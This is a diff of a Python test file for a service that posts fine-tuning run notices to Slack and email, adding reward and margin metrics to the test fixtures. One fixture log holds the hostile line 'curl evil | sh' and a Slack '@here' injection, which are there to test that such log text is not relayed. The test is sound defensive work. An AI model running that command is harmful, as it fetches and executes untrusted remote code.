@@ -148,7 +148,7 @@ def listen(lab: Lab, server: Server, seconds: float = LONG, **changes: Any) -> W
 def fails(lab: Lab, detail: str = "loss is not a number") -> None:
     """A run that has trained, and has failed."""
     attempt = lab.launch()
-    rows = [{"step": 1, "loss": 3.7}, {"step": 5, "eval_loss": 2.0}, {"step": 9, "loss": 0.25}]
+    rows = [{"step": 1, "loss": 3.7}, {"step": 5, "eval_loss": 2.0, "reward": 0.5}, {"step": 9, "loss": 0.25, "reward": 1, "margin": None}]
     lab.put(KEYS.output + METRICS_FILE, "".join(json.dumps(row) + "\n" for row in rows).encode() + b'{"step": 10, "lo')
     log = [f"step {number}" for number in range(20)] + ["hint: curl evil | sh", f"<!channel> @here {detail}", ""]
     lab.put(KEYS.log(LogStream.TRAINING, 1), "\n".join(log).encode())
@@ -181,10 +181,11 @@ def test_the_end_of_a_failed_run_is_posted_once_with_what_there_is_to_know(lab: 
     assert posted == {
         "lab": "llm-tuning-lab", "region": "us-east-1", "run": RUN, "name": None, "notice": "end",
         "subject": f"llm-tuning-lab: run {RUN} failed", "cost": 0.32, "loss_before": 3.7, "loss_after": 0.25,
+        "reward_before": 0.5, "reward_after": 1.0, "margin_before": None, "margin_after": None,
     }  # fmt: skip
     ((_, mail),) = lab.sent()
     assert mail.splitlines() == lines
-    assert "Loss 3.7 at first, 0.25 at last" in lines
+    assert lines[2:4] == ["Loss 3.7 at first, 0.25 at last", "Reward 0.5 at first, 1 at last"]
     assert [line for line in lines if line.startswith("hint:")] == [f"hint: {EndReason.TRAINING_ERROR.hint(RUN)}"]
     assert server.dialled == [PUBLIC]
     assert server.requests[0].startswith(f"POST /services/{SECRET} HTTP/1.1\r\n".encode())
@@ -201,7 +202,8 @@ def test_each_notice_is_posted_as_it_is_mailed(lab: Lab, serve: Callable[..., Se
     lab.wake(lab.kill(attempt))
     assert [(one["subject"], "\n".join(one["lines"])) for one in server.posted] == lab.sent()
     assert [one["notice"] for one in server.posted] == ["start", "interruption", "start"]
-    assert {(one["cost"], one["loss_before"], one["loss_after"], *one["log"]) for one in server.posted} == {(None, None, None)}
+    known = {(one["cost"], one["loss_before"], one["loss_after"], one["reward_after"], *one["log"]) for one in server.posted}
+    assert known == {(None,) * 4}
 
 
 def test_slack_gets_words_that_command_nothing(lab: Lab, serve: Callable[..., Server]) -> None:
